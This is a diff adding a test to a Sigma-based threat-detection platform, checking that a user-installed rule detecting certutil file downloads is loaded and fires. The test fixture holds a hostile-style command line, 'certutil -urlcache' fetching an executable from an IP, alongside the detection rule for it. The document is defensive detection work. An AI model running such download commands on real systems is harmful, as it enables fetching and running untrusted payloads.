@@ -73,3 +73,33 @@ def test_kind_mapping_from_data() -> None:
     assert kinds["Non-Mail Program Connects to an SMTP Port"] == "emotet"
     assert kinds["Ransom Note Written"] == "ransomware"  # by its ATT&CK tag t1486
     assert rs.failed == [] and len(rs.correlations) == 1
+
+
+def test_a_release_installed_by_sigma_update_is_used_by_the_platform(tmp_path) -> None:
+    """``mimamori sigma update`` puts rules in <data dir>/sigma-rules; the platform's detector
+    loads them next to the built-in set (a rule of our own stands in for the release)."""
+    from mimamori.config import Settings
+    from mimamori.pipeline import Platform
+
+    rules = tmp_path / "home" / "sigma-rules" / "rules" / "windows"
+    rules.mkdir(parents=True)
+    (rules / "certutil_download.yml").write_text(
+        "title: Certutil Downloads a File\n"
+        "id: 0b6e2f7c-4a51-4c1e-9a6d-5e2a7c9d1f33\n"
+        "level: high\n"
+        "logsource: {category: process_creation, product: windows}\n"
+        "detection:\n"
+        "  sel: {Image|endswith: '\\certutil.exe', CommandLine|contains: 'urlcache'}\n"
+        "  condition: sel\n",
+        encoding="utf-8",
+    )
+    ev = _events([
+        {"EventID": 1, "TimeCreated": _at(0), "Image": "C:\\W\\certutil.exe",
+         "CommandLine": "certutil -urlcache -f http://198.51.100.7/a.exe a.exe"},
+    ])  # fmt: skip
+    with Platform(Settings.load(tmp_path / "home")) as platform:
+        (det,) = [d for d in platform.detectors if isinstance(d, SigmaDetector)]
+        alerts = det.detect(ev, DetectContext(tenant="t", batch_id="b1"))
+    assert [a.evidence["rule"] for a in alerts] == ["Certutil Downloads a File"]
+    # without the installed release the built-in rules alone do not know this command
+    assert SigmaDetector().detect(ev, DetectContext(tenant="t", batch_id="b1")) == []
